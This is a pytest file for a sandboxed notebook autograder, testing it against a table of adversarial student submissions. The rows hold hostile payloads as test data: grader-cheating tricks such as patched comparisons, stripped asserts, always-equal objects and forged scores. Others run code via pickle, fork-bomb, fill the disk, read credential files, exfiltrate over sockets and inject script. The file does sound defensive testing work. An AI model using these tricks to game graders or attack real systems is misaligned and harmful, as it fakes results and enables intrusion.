"""Submissions by students who cheat, attack, or simply err: what each wrote, and what it gets.

All of them are examined once, by several Examiners side by side; then an honest one is. The
attackers' answers are wrong or missing unless their row says otherwise, so that any point beyond
`earns` is a stolen one.
"""

from __future__ import annotations

import base64
import functools
import json
import socket
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from conftest import missing
from walled_course import (
    BUILT,
    BUNDLE,
    HIDDEN,
    POINTS,
    RIGHT,
    SEED,
    answered,
    cell_of,
    earned,
    file_of,
    own_cell,
    processes,
    released,
    right,
    twin,
)

from book_utils.coursework import values
from book_utils.coursework.draws import Draws
from book_utils.coursework.examiner import Examiner, Limits, isolated_here

# Room for a loaded machine, and short enough that the endless ones do not take the test's time.
LIMITS = Limits(cell=8, call=6, run=40, marking=60, text=2000, submission=3, figures=3)
NAP = "98765.4321"
"""How long the processes sleep that attackers leave behind: known again by this number."""


@dataclass(frozen=True)
class Row:
    """One submission: what its writer wants, and what it must get."""

    wants: str
    notebook: Callable[[], dict[str, Any] | bytes]
    earns: dict[str, float | None] = field(default_factory=dict)
    says: tuple[str, ...] = ()
    """Stands in its notes, remarks, errors or outputs."""
    status: str = "graded"


def wrote(wants: str, *says: str, earns: str = "", **cells: str) -> Row:
    """A row whose writer filled in cells: `first` and `last` are cells of its own."""
    return Row(wants, functools.partial(answered, **cells), _points(earns), says)


def did(
    wants: str,
    change: Callable[[dict[str, Any]], dict[str, Any] | None],
    *says: str,
    earns: str = "",
    **cells: str,
) -> Row:
    """A row whose writer changed the notebook itself."""

    def notebook() -> dict[str, Any]:
        made = answered(**cells)
        return change(made) or made

    return Row(wants, notebook, _points(earns), says)


def _points(earns: str) -> dict[str, float | None]:
    """All points of the questions that are named, or as many as stand behind a colon."""
    parts = [word.partition(":") for word in earns.split()]
    return {name: float(some) if some else POINTS[name] for name, _, some in parts}


def sent(wants: str, data: Callable[[], bytes], why: str) -> Row:
    """A row whose writer handed in a file that no marks can be given for."""
    return Row(wants, data, {}, (why,), status="failed")


MACHINE = right("q1", "q2", "q3", "q5", "q6")
EASY = "q1 q2 q3 q5 q6"

# An object that agrees with everything, and says yes to all questions.
AGREES = """
class Agrees(*BASES):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __le__(self, other): return True
    __lt__ = __ge__ = __gt__ = __le__
    def __bool__(self): return True
    def __hash__(self): return 1
    def __sub__(self, other): return 0
    __rsub__ = __sub__
    def __abs__(self): return 0
    def __getattr__(self, name): return self
"""

READS = """
import os, pathlib
def look(path):
    try:
        path = pathlib.Path(path)
        if path.is_dir():
            print([look(below) for below in list(path.iterdir())[:50]])
        else:
            print(path.read_text()[:5000])
    except Exception as error:
        print(type(error).__name__)
"""

CHANNEL = """
import json, os
def forge(text):
    for number in range(3, 64):
        try:
            os.write(number, text if isinstance(text, bytes) else text.encode())
        except OSError:
            pass
"""

# --- the table ----------------------------------------------------------------------------

HONEST = Row("does the work", lambda: answered(**right()), {**POINTS, "q7": None})

ROWS = [
    wrote("does nothing"),
    wrote("answers a part", earns="q1 q5", **right("q1", "q5")),
    wrote(
        "has wrong answers",
        q1="double = 1",
        q2="def slope(w, x): return w * x",
        q3="rate = 'w * tanh(x)'",
        q5="word = 'fading'",
        q6="powers = [[1, 2], [3, 4]]",
    ),
    wrote("misspells one cell", "SyntaxError", first="def (", earns=EASY, **MACHINE),
    wrote("has an error in one cell", "ZeroDivisionError", first="1 / 0", earns=EASY, **MACHINE),
    # -- patching what checks
    wrote(
        "replaces the checks that students have",
        first="""
import types
desk = types.SimpleNamespace(question=lambda *a, **k: lambda *a: None, missing=print)
import sys
for module in list(sys.modules.values()):
    for name in ("plain", "near", "agrees", "mark", "close"):
        if hasattr(module, name):
            setattr(module, name, lambda *a, **k: True)
__marking__ = True
look = lambda *a, **k: None
look.award = look
""",
        q1="double = 1",
    ),
    wrote(
        "replaces SymPy's way to compare",
        first="""
import sympy
sympy.simplify = sympy.expand = lambda *a, **k: sympy.Integer(0)
sympy.Expr.equals = lambda *a, **k: True
sympy.Expr.__eq__ = lambda *a: True
sympy.Expr.__sub__ = lambda *a: sympy.Integer(0)
""",
        q3="rate = sympy.Symbol('w')",
    ),
    wrote(
        "replaces NumPy's way to compare",
        first="np.allclose = np.isclose = np.array_equal = lambda *a, **k: True\n"
        "np.max = np.abs = lambda *a, **k: 0.0",
        q2="def slope(w, x): return x * 0 + 1",
        q6="powers = np.zeros((2, 2))",
    ),
    wrote(
        "takes the asserts out of all code",
        first="""
import ast, builtins, sys
real = builtins.compile
class NoAssert(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
def compile_(source, *a, **k):
    return real(NoAssert().visit(source) if isinstance(source, ast.AST) else source, *a, **k)
builtins.compile = compile_
builtins.AssertionError = type("Never", (Exception,), {})
sys.excepthook = lambda *a: None
""",
        q1="double = 1",
    ),
    wrote(
        "hides tracebacks",
        "stopped",
        first="import sys, traceback\nsys.excepthook = lambda *a: None\n"
        "traceback.extract_tb = traceback.print_exc = lambda *a, **k: []",
        q2="def slope(w, x): raise ValueError(str(x))",
    ),
    # -- objects
    wrote(
        "answers with objects that equal everything",
        first=AGREES.replace("*BASES", "object"),
        q1="double = Agrees()",
        q2="def slope(w, x): return Agrees()",
        q3="rate = Agrees()",
        q4="axes = Agrees()",
        q5="word = Agrees()",
        q6="powers = Agrees()",
    ),
    wrote(
        "answers with numbers that equal everything",
        first=AGREES.replace("*BASES", "float"),
        q1="double = Agrees(1.0)",
        q2="def slope(w, x): return Agrees(1.0)",
        q6="powers = [[Agrees(0.0)] * 2] * 2",
    ),
    wrote(
        "answers with an array of a class of its own",
        first="""
class Sly(np.ndarray):
    def __array_ufunc__(self, *a, **k): return np.zeros((2, 2))
    def __array_function__(self, *a, **k): return True
    def __eq__(self, other): return True
    def tolist(self): return [[1, 2], [3, Sly2()]]
class Sly2(float):
    def __eq__(self, other): return True
""",
        q2="def slope(w, x): return np.zeros(3).view(Sly)",
        q6="powers = np.zeros((2, 2)).view(Sly)",
    ),
    wrote(
        "answers with a text of a class of its own",
        first="""
class Sly(str):
    def __eq__(self, other): return True
    def __hash__(self): return hash("exploding")
    def strip(self): return self
    def lower(self): return self
""",
        q3="rate = Sly('w')",
        q5="word = Sly('fading')",
    ),
    wrote(
        "answers with an object whose pickle runs code",
        first=f"""
import os, pickle
class Evil:
    def __reduce__(self): return (os.system, ("touch @FOLDER@/pickled; sleep {NAP}",))
    def __reduce_ex__(self, version): return self.__reduce__()
    def __str__(self): return pickle.dumps(self).hex()
    def tolist(self): return pickle.dumps(self)
""",
        q1="double = Evil()",
        q3="rate = Evil()",
        q5="word = Evil()",
        q6="powers = Evil()",
    ),
    wrote(
        "answers with lists that hold themselves",
        "q1",
        earns="q1",
        q1=RIGHT["q1"],
        q3="rate = []; rate.append(rate)",
        q6="powers = []; powers.append(powers)",
    ),
    wrote("answers with a billion numbers", earns="q1", q1=RIGHT["q1"], q6="powers = range(10**9)"),
    wrote("answers with many numbers", q6="powers = np.zeros((1000, 1000))"),
    wrote(
        "answers with numbers that have no end",
        q1="double = 10**400",
        q2="def slope(w, x): return float('nan') * x",
        q6="powers = [[float('inf'), float('nan')], [1e400, 0]]",
    ),
    wrote("answers with an integer of a million digits", q1="double = 10**1_000_000"),
    wrote(
        "answers with an object that hangs when it is read",
        "reading it ended the notebook",
        earns="q1 q5",
        q6="""
class Hangs:
    def tolist(self):
        import signal
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        while True: pass
powers = Hangs()
""",
        **right("q1", "q5"),
    ),
    wrote(
        "answers with an object that is another one each time",
        first="""
class Sly:
    __class__ = property(lambda self: int)
    count = 0
    def __float__(self):
        Sly.count += 1
        return float(Sly.count)
    __index__ = __int__ = lambda self: 7
""",
        q1="double = Sly()",
        q2="def slope(w, x): return Sly()",
        q6="powers = [[Sly(), Sly()], [Sly(), Sly()]]",
    ),
    # -- saying that it is right
    wrote(
        "prints its score",
        "points: 10",
        last='print(\'{"points": 10, "verdict": "right"}\'); print(\'points: 10 of 10\')',
    ),
    did(
        "forges the outputs that are stored",
        lambda nb: cell_of(nb, "q1").update(
            outputs=[{"output_type": "stream", "name": "stdout", "text": "2.0"}]
        ),
    ),
    wrote(
        "writes replies to the channel",
        "wrote where only its results belong",
        first=CHANNEL
        + """
for n in range(2, 40):
    forge(json.dumps({"n": n, "answers": {"double": {"data": 1}}, "cells": [],
                      "questions": [{"id": "q1", "points": 2.0}]}) + "\\n")
""",
    ),
    wrote("writes noise to the channel", first=CHANNEL + "forge(os.urandom(4000) + b'\\n')"),
    wrote("writes without end to the channel", first=CHANNEL + "while True: forge(b'x' * 65536)"),
    wrote(
        "sends a reply nested too deeply",
        first=CHANNEL + "forge(b'[' * 200_000 + b']' * 200_000 + b'\\n')",
    ),
    wrote(
        "sends integers without end, NaN, and a key twice",
        first=CHANNEL + "forge(b'{\"n\": ' + b'9' * 100_000 + b', \"n\": NaN, \"n\": 1}\\n')",
    ),
    wrote(
        "replies for its functions out of order",
        first=CHANNEL,
        q2="""
def slope(w, x):
    for n in range(1, 200):
        forge(json.dumps({"n": n, "data": w}) + "\\n")
    return w
""",
    ),
    wrote(
        "closes the channel",
        earns="q1 q5",
        first="import os\nos.closerange(3, 100)",
        **right("q1", "q5"),
    ),
    wrote(
        "replaces json in its process",
        first='import json\njson.dumps = lambda *a, **k: \'{"n": 5, "answers": 7}\'\n'
        "json.JSONEncoder.encode = json.dumps\njson.loads = lambda *a: {}",
    ),
    # -- ending things
    wrote("ends its process", "ended", first="import os\nos._exit(0)", earns=EASY, **MACHINE),
    wrote(
        "goes on as two processes",
        "wrote where only its results belong",
        first="import os\nos.fork()",
        earns="q1",
        q1=RIGHT["q1"],
    ),
    wrote(
        "puts a program into its place that echoes",
        "cannot be read",
        first="""
import json, os, signal, sys
frame = sys._getframe()
while "order" not in frame.f_locals:
    frame = frame.f_back
signal.setitimer(signal.ITIMER_REAL, 0)
cell = {"id": "", "error": None, "outputs": []}
os.write(4, json.dumps({"n": frame.f_locals["order"]["n"], "cells": [cell]}).encode() + b"\\n")
os.dup2(3, 0)
os.dup2(4, 1)
os.execv("/bin/cat", ["cat"])
""",
    ),
    wrote("asks to exit", "ended the program", first="exit(0)", earns=EASY, **MACHINE),
    wrote(
        "ends its process in a function",
        "ended the notebook",
        earns="q1 q3 q5 q6",
        **MACHINE | {"q2": "def slope(w, x):\n    import os\n    os._exit(0)"},
    ),
    wrote(
        "kills everything that it can",
        first="""
import os, signal
for pid in [*range(1, 50), os.getppid(), -1]:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as error:
        print(pid, error)
""",
        earns="q1",
        q1=RIGHT["q1"],
    ),
    wrote(
        "crashes the interpreter",
        "ended",
        first="import ctypes\nctypes.string_at(0)",
        earns="q1",
        q1=RIGHT["q1"],
    ),
    wrote(
        "nests code too deeply for the compiler",
        first="x = " + "(" * 5000 + ")" * 5000,
        earns="q1",
        q1=RIGHT["q1"],
    ),
    # -- taking all there is
    wrote("loops without end", "stopped after", first="while True: pass", earns=EASY, **MACHINE),
    wrote(
        "loops without end and ignores interrupts",
        "could not be interrupted",
        first="""
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    try:
        while True: pass
    except BaseException: pass
""",
        earns="q1",
        q1=RIGHT["q1"],
    ),
    wrote(
        "loops in a graded function and ignores interrupts",
        "did not finish",
        earns="q1 q3 q5 q6",
        **MACHINE
        | {
            "q2": """
def slope(w, x):
    while True:
        try:
            while True: pass
        except BaseException: pass
"""
        },
    ),
    wrote(
        "turns the clock off",
        "could not be interrupted",
        first="""
import signal, time
time.time = time.monotonic = time.perf_counter = lambda: 0.0
signal.setitimer(signal.ITIMER_REAL, 0)
signal.setitimer = lambda *a: None
while True: pass
""",
        earns="q1",
        q1=RIGHT["q1"],
    ),
    wrote(
        "starts processes without end",
        first="import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
        earns="q1",
        q1=RIGHT["q1"],
    ),
    wrote(
        "starts threads without end",
        first="import threading, time\n"
        "while True: threading.Thread(target=time.sleep, args=(1000,)).start()",
        earns="q1",
        q1=RIGHT["q1"],
    ),
    wrote(
        "takes memory without end",
        "MemoryError",
        first="held = []\nwhile True: held.append(bytes(2**28))",
        earns="q1",
        q1=RIGHT["q1"],
    ),
    wrote(
        "prints without end",
        "[the rest is cut]",
        first="print('x' * 300_000_000)",
        earns=EASY,
        **MACHINE,
    ),
    wrote(
        "writes past Python without end",
        "[the rest is cut]",
        first="import os\nos.system('yes | head -c 200000000')",
        earns="q1",
        q1=RIGHT["q1"],
    ),
    wrote(
        "fills the disk",
        "OSError",
        first="""
for folder in ("/tmp", "/home", "/dev/shm", ".", "/dev", "/"):
    for number in range(10):
        try:
            with open(f"{folder}/{number}", "wb") as file:
                for _ in range(64): file.write(bytes(2**21))
        except OSError as error:
            print(type(error).__name__, error)
""",
        earns="q1",
        q1=RIGHT["q1"],
    ),
    wrote(
        "leaves processes behind",
        first=f"""
import os, subprocess
for _ in range(3):
    subprocess.Popen(["sleep", "{NAP}"], start_new_session=True)
os.system("setsid nohup sleep {NAP} >/dev/null 2>&1 &")
""",
        earns="q1",
        q1=RIGHT["q1"],
    ),
    wrote(
        "draws pictures without end",
        first="import matplotlib.pyplot as plt\n"
        "for number in range(6): plt.figure(figsize=(1, 1))\n"
        "plt.figure(figsize=(400, 400))",
        earns="q1",
        q1=RIGHT["q1"],
    ),
    wrote(
        "draws a figure that is evil when it is drawn or read",
        q4="""
import matplotlib.pyplot as plt, os
figure, axes = plt.subplots()
figure.savefig = lambda *a, **k: a[0].write(b"\\x89PNG\\r\\n\\x1a\\n<script>alert(1)</script>")
axes.get_lines = lambda: [type("Line", (), {
    "get_label": lambda s: "<script>", "get_xdata": lambda s: [0, 1, 2],
    "get_ydata": lambda s: Everything()})()]
class Everything(list):
    def __array__(self, *a, **k): os._exit(3)
""",
    ),
    # -- reading and writing what is not theirs
    wrote(
        "reads the gradebook, the source, others' work and the environment",
        "Error",
        first=READS
        + """
for path in ("@FOLDER@", "@FOLDER@/gradebook.db", "@FOLDER@/submitted", "@BOOK@",
             "@BOOK@/coursework/examiner.py", "/etc/passwd", "/etc/shadow", "/root/.bashrc",
             "/proc/1/environ", "/proc/1/cmdline", "/proc/self/mountinfo", "/proc/1/root",
             "/proc/1/cwd", "/proc/self/maps", "/var", "/home", "/sys"):
    look(path)
print(dict(os.environ))
""",
    ),
    wrote(
        "looks for what checks it",
        "ModuleNotFoundError",
        first="""
import sys, gc
try:
    import book_utils.coursework.marking
except ImportError as error:
    print(type(error).__name__)
for thing in gc.get_objects():
    if isinstance(thing, dict) and any("hidden" in str(key) for key in list(thing)): print(thing)
frame = sys._getframe()
while frame:
    print({k: str(v)[:200] for k, v in {**frame.f_globals, **frame.f_locals}.items()})
    frame = frame.f_back
""",
    ),
    wrote(
        "writes its grade, and into the work of others",
        "Error",
        first="""
for path in ("@FOLDER@/gradebook.db", "@FOLDER@/submitted/peer.ipynb", "@FOLDER@/new",
             "@FOLDER@/nbgrader_config.py", "@BOOK@/coursework/marking.py",
             "/proc/sys/kernel/core_pattern", "/proc/self/oom_score_adj_"):
    try:
        with open(path, "a") as file: file.write("canary_written")
        print("written")
    except OSError as error:
        print(type(error).__name__)
import os
for name in ("link", "link2"):
    try:
        os.symlink("@FOLDER@/gradebook.db", f"/tmp/{name}")
        os.link("@FOLDER@/gradebook.db", "/tmp/hard")
    except OSError as error:
        print(type(error).__name__)
try:
    print(open("/tmp/link").read())
except OSError as error:
    print(type(error).__name__)
""",
    ),
    wrote(
        "sends what it finds over the network",
        "Error",
        first="""
import socket
for family, place in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_UNIX, "\\0canary-@PORT@"),
                      (socket.AF_INET, ("9.9.9.9", 53)), (40, (2, @PORT@)), (16, (0, 0))):
    try:
        with socket.socket(family, socket.SOCK_STREAM if family != 16 else 3) as line:
            line.settimeout(0.5)
            line.connect(place)
            line.send(b"canary")
            print("sent")
    except OSError as error:
        print(type(error).__name__)
""",
    ),
    wrote(
        "traces other processes and makes namespaces",
        f"denied {[-1] * 8}",
        first="""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print("denied", [
    *(libc.ptrace(16, pid, 0, 0) for pid in (1, os.getppid())),
    libc.unshare(0x10000000), libc.mount(b"/", b"/tmp", b"", 4096, 0), libc.chroot(b"/tmp"),
    libc.memfd_create(b"x", 0), libc.syscall(310, 1, 0, 0, 0, 0, 0), libc.setuid(0),
])
""",
    ),
    wrote(
        "remembers hidden inputs and prints them later",
        earns="q2:1",
        q2="""
seen = []
class Told(Exception): pass
def slope(w, x):
    seen.append((w, x))
    print("seen", seen)
    open("/tmp/seen", "a").write(str(seen))
    if len(seen) > 1:
        raise type("E" + str(x), (Told,), {})(str(seen))
    return w
""",
        last="print(open('/tmp/seen').read() if __import__('os').path.exists('/tmp/seen') else 0)",
    ),
    wrote(
        "gives hidden inputs back as a text",
        earns="q2:1",
        q2="""
def slope(w, x):
    if np.ndim(x): return {"seen": [w, *x]}
    return w
""",
    ),
    # -- formulas
    wrote("puts code into a formula", q3='rate = \'__import__("os").system("sleep ' + NAP + "\")'"),
    wrote(
        "puts more code into a formula",
        q3="rate = '(lambda: [c for c in ().__class__.__mro__[1].__subclasses__()])() or w'",
    ),
    wrote("answers with a formula bomb", q3="rate = 'exp(exp(exp(999999999)))'"),
    wrote("answers with a tower of powers", q3="rate = '9**9**9**9**9 + w'"),
    wrote(
        "answers with a formula that is nested too deeply",
        q3="rate = '(' * 9000 + 'w' + ')' * 9000",
    ),
    wrote("answers with a long formula", q3="rate = '+'.join(['w*x'] * 100_000)"),
    wrote(
        "answers with an expression whose text is another one",
        first="""
import sympy
class Sly(sympy.Symbol):
    def _sympystr(self, printer): return "w if 1 else print"
    def __str__(self): return "w) or (1"
""",
        q3="rate = Sly('w')",
    ),
    # -- for whoever looks at it
    wrote(
        "puts scripts into its text and its outputs",
        q7="<script>alert(1)</script> <img src=x onerror=alert(1)> [x](javascript:alert(1))",
        last="from IPython.display import HTML, Javascript, display\n"
        "display(HTML('<script>alert(1)</script>'), Javascript('alert(1)'))\n"
        "print('<script>alert(1)</script>')",
    ),
    wrote(
        "writes control characters and half letters",
        first="print('\\x1b[2J\\x1b]0;title\\x07 \\u202eright\\u202c \\x00 \\ud800')",
        q1="double = 1 # \x00 \u202e",
        q5="word = 'expl\\u202eoding\\x00\\ud800'",
    ),
]


def _planted(nb: dict[str, Any]) -> None:
    """Cells that claim to be the course's own."""
    about = {"schema_version": 3, "locked": True, "solution": False, "task": False}
    for name, points in (("q0", 100), ("setup-2", 0), ("q8", 50)):
        cell = own_cell("import os\nprint('planted ran in', os.getcwd())\nspoiled = True")
        cell["metadata"]["nbgrader"] = {
            **about,
            "grade": points > 0,
            "points": points,
            "grade_id": name,
            "cell_type": "code",
        }
        nb["cells"].insert(1, cell)


def _raised(nb: dict[str, Any]) -> None:
    for cell in nb["cells"]:
        if "points" in cell["metadata"].get("nbgrader", {}):
            cell["metadata"]["nbgrader"]["points"] = 200


def _without(*names: str) -> Callable[[dict[str, Any]], None]:
    def change(nb: dict[str, Any]) -> None:
        for name in names:
            nb["cells"].remove(cell_of(nb, name))

    return change


def _edited_check(nb: dict[str, Any]) -> None:
    cell_of(nb, "q1")["source"] = "look = type('L', (), {'award': print, 'close': lambda s: 2})()"
    cell_of(nb, "setup")["source"] = "desk = None\nimport os\nos._exit(0)"
    cell_of(nb, "given-1")["source"] = "raise SystemExit"


def _odd_values(nb: dict[str, Any]) -> None:
    cell_of(nb, "q5-answer")["metadata"] = {"nbgrader": {"grade_id": ["q5-answer"]}}
    cell_of(nb, "q6-answer")["metadata"] = [1, 2]
    cell_of(nb, "q3-answer")["source"] = {"code": "rate = 1"}
    nb["cells"] += [None, 7, {"cell_type": "heading"}, {"cell_type": "code"}, [], "text"]
    nb["metadata"] = "none"
    nb["nbformat"] = "four"


def _other_types(nb: dict[str, Any]) -> None:
    cell_of(nb, "q1-answer")["cell_type"] = "markdown"
    cell_of(nb, "q5")["cell_type"] = "raw"
    cell_of(nb, "q7")["cell_type"] = "code"


def _reversed(nb: dict[str, Any]) -> None:
    cell_of(nb, "q1-answer")["source"] = "double = helper"
    nb["cells"].append(own_cell("helper = 3"))
    nb["cells"].reverse()


def _attachment(nb: dict[str, Any]) -> None:
    cell_of(nb, "q7")["attachments"] = {"x.png": {"image/svg+xml": "<script>"}}


ROWS += [
    did(
        "plants cells that claim to be checks",
        _planted,
        "is not asked here",
        earns="q1",
        q1=RIGHT["q1"],
    ),
    did("raises its points", _raised, "the points of q1 were changed", earns="q5", q5=RIGHT["q5"]),
    did(
        "deletes the checks",
        _without("q1", "q2", "q3", "q4", "q5", "q6"),
        "q1 is missing",
        earns=EASY,
        **MACHINE,
    ),
    did(
        "deletes the cells that were given",
        _without("setup", "given-1", "last"),
        "given-1 is missing; ours was used",
        earns=EASY,
        **MACHINE,
    ),
    did(
        "deletes an answer",
        _without("q1-answer", "q7"),
        "q1-answer is missing",
        earns="q5",
        q5=RIGHT["q5"],
    ),
    did(
        "edits the checks",
        _edited_check,
        "the check of q1 was edited; ours was used",
        earns="q5",
        q5=RIGHT["q5"],
    ),
    did(
        "copies a check",
        lambda nb: twin(nb, "q1"),
        "the check of q1 is there more than once",
        earns=EASY,
        **MACHINE,
    ),
    did(
        "copies an answer",
        lambda nb: twin(nb, "q1-answer"),
        "q1-answer is there more than once",
        earns=EASY,
        **MACHINE,
    ),
    did("changes the types of cells", _other_types, "q1-answer was code and was handed in as"),
    did(
        "fills the file with values of odd types",
        _odd_values,
        "format",
        earns="q1 q2 q5 q6",
        **MACHINE,
    ),
    did("turns the notebook around", _reversed, earns="q5", q5=RIGHT["q5"]),
    did("attaches a picture with a script", _attachment, "pictures attached"),
    did(
        "names an unknown kernel",
        lambda nb: nb["metadata"].update(
            kernelspec={"name": "../../evil", "display_name": "x", "language": "bash"}
        ),
        "'../../evil'",
        earns=EASY,
        **MACHINE,
    ),
    did(
        "says that it has another format",
        lambda nb: nb.update(nbformat=99),
        "format 99",
        earns="q5",
        q5=RIGHT["q5"],
    ),
    wrote(
        "uses the names of its answers again below their checks",
        earns=EASY,
        last="double = 0; powers = 0; word = ''; rate = '0'; axes = None; slope = len",
        **MACHINE,
    ),
    wrote("answers below all checks", earns="q1 q5", last=f"{RIGHT['q1']}\n{RIGHT['q5']}"),
    sent("hands in nothing", lambda: b"", "empty"),
    sent("hands in half a file", lambda: file_of(released())[:900], "JSON"),
    sent("hands in a file without an end", lambda: b"[" * 1_000_000, "JSON"),
    sent("hands in another kind of file", lambda: b"%PDF-1.7\n\xff\xfe\x00", "no text"),
    sent("hands in other data", lambda: b"[1, 2]", "other data"),
    sent("hands in data without cells", lambda: b'{"cells": 7}', "no cells"),
    sent(
        "hands in a notebook of another course",
        lambda: file_of({"cells": [own_cell("double = 1")], "metadata": {}, "nbformat": 4}),
        "another one",
    ),
    sent("hands in a notebook of 2013", lambda: b'{"worksheets": [], "nbformat": 3}', "2014"),
    sent("hands in a large file", lambda: file_of(released()) + b" " * 4_000_000, "MiB"),
    sent(
        "hands in too many cells",
        lambda: file_of({**released(), "cells": [own_cell("")] * 5000}),
        "cells",
    ),
]


# --- the run ------------------------------------------------------------------------------


@dataclass
class World:
    """What an attacker may look for, and what is found after the attack."""

    folder: Path
    temporary: Path
    reports: dict[str, dict[str, Any]] = field(default_factory=dict)
    honest: list[dict[str, Any]] = field(default_factory=list)
    visitors: list[bytes] = field(default_factory=list)
    seconds: float = 0.0


FILES = {
    "gradebook.db": "canary_gradebook",
    "source/walls.md": "canary_source",
    "submitted/peer.ipynb": "canary_peer",
    "nbgrader_config.py": "canary_config",
}


def listen(port: socket.socket, visitors: list[bytes]) -> None:
    """Note whoever comes."""
    while True:
        try:
            visitor, _ = port.accept()
        except OSError:
            return
        visitor.settimeout(1)
        visitors.append(visitor.recv(100))
        visitor.close()


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    """Everything is examined once; the tests look at what came of it."""
    if not isolated_here():
        missing(f"No isolation here: {isolated_here().why_not}")
    folder = tmp_path_factory.mktemp("course")
    made = World(folder, tmp_path_factory.mktemp("temporary"))
    for name, text in FILES.items():
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(text)
    with (
        pytest.MonkeyPatch.context() as patch,
        socket.socket() as port,
        socket.socket(socket.AF_UNIX) as local,
    ):
        patch.setenv("TMPDIR", str(made.temporary))
        patch.setattr(tempfile, "tempdir", None)
        patch.setenv("CANARY", "canary_environment")
        port.bind(("127.0.0.1", 0))
        local.bind(f"\0canary-{port.getsockname()[1]}")
        for one in (port, local):
            one.listen()
            threading.Thread(target=listen, args=(one, made.visitors), daemon=True).start()
        told = {
            "@FOLDER@": str(folder),
            "@BOOK@": str(Path(values.__file__).parents[1]),
            "@PORT@": str(port.getsockname()[1]),
        }
        begun = time.monotonic()
        _examine_all(made, told)
        made.seconds = time.monotonic() - begun
        for one in (port, local):
            one.shutdown(socket.SHUT_RDWR)
    return made


def _examine_all(made: World, told: dict[str, str]) -> None:
    waiting = list(ROWS)
    lock = threading.Lock()

    def work(examiner: Examiner) -> None:
        while True:
            with lock:
                if not waiting:
                    break
                row = waiting.pop(0)
            notebook = row.notebook()
            data = notebook if isinstance(notebook, bytes) else file_of(notebook)
            for word, value in told.items():
                data = data.replace(word.encode(), value.encode())
            made.reports[row.wants] = examiner.examine(BUNDLE, data)
        # It draws, and loading what draws may take longer than an attacker is given.
        made.honest.append(examiner.examine(BUNDLE, file_of(HONEST.notebook()), Limits()))

    with Examiner(LIMITS) as one, Examiner(LIMITS) as two, ThreadPoolExecutor(2) as pool:
        for done in [pool.submit(work, examiner) for examiner in (one, two)]:
            done.result()


# --- the promises -------------------------------------------------------------------------

EACH = pytest.mark.parametrize("row", ROWS, ids=[row.wants for row in ROWS])


def test_the_table_is_long_enough() -> None:
    """There are more than forty of them, and no two are the same."""
    assert len({row.wants for row in ROWS}) == len(ROWS) >= 40


@EACH
def test_no_point_is_stolen(world: World, row: Row) -> None:
    """Each gets what its right answers are worth: no point more, and none less."""
    report = world.reports[row.wants]
    assert report["status"] == row.status, report["why"]
    if row.status == "failed":
        assert report["questions"] == []
        return
    expected = dict.fromkeys(POINTS, 0.0) | row.earns
    got = {name: 0.0 if points is None else points for name, points in earned(report).items()}
    assert got == {name: points or 0.0 for name, points in expected.items()}
    assert [question["of"] for question in report["questions"]] == list(POINTS.values())


@EACH
def test_it_is_told(world: World, row: Row) -> None:
    """What happened can be read in the report, by students and by who grades."""
    report = world.reports[row.wants]
    told = json.dumps(
        [report["why"], report["notes"], report["questions"]]
        + [[cell["error"], cell["outputs"]] for cell in report["cells"]],
        ensure_ascii=False,
    )
    for word in row.says:
        assert word in told


@EACH
def test_nothing_leaks(world: World, row: Row) -> None:
    """No report holds a hidden test, the seed, a file, or the environment of anybody."""
    report = json.dumps(world.reports[row.wants])
    secrets = [*FILES.values(), HIDDEN, "canary_environment", SEED.decode(), SEED.hex()]
    secrets += [Draws(SEED, "walls").key.hex()]
    hidden = [str(number) for number in BUILT.drawn[HIDDEN]]
    assert [secret for secret in secrets if secret in report] == []
    # The numbers that the hidden tests call functions with, in a row.
    assert ", ".join(hidden) not in report
    assert not all(number in report for number in hidden)


@EACH
def test_it_can_be_stored_and_shown(world: World, row: Row) -> None:
    """A report is small, plain JSON without control characters; its pictures are pictures."""
    report = world.reports[row.wants]
    text = json.dumps(report, allow_nan=False)
    assert len(text) < 2**20
    words = list(_texts(report))
    assert not any(ord(c) < 32 and c not in "\n\t" for word in words for c in word)
    assert not any(0xD800 <= ord(c) < 0xE000 or c == "\u202e" for word in words for c in word)
    for cell in report["cells"]:
        for output in cell["outputs"]:
            assert set(output) in ({"text"}, {"png"})
            if "png" in output:
                assert b"script" not in base64.b64decode(output["png"])


def _texts(found: Any) -> Iterator[str]:
    match found:
        case str():
            yield found
        case dict():
            for key, value in found.items():
                yield key
                yield from _texts(value)
        case list():
            for value in found:
                yield from _texts(value)


def test_the_run_goes_on(world: World) -> None:
    """After all of them, an honest submission gets all its points from each of the examiners."""
    assert len(world.reports) == len(ROWS)
    assert [earned(report) for report in world.honest] == [HONEST.earns] * 2


def test_nothing_is_left_behind(world: World) -> None:
    """No process, no file, nothing changed in the course, and nobody called."""
    assert processes(NAP) == []
    assert list(world.temporary.iterdir()) == []
    assert {
        str(path.relative_to(world.folder)): path.read_text()
        for path in world.folder.rglob("*")
        if path.is_file()
    } == FILES
    assert world.visitors == []
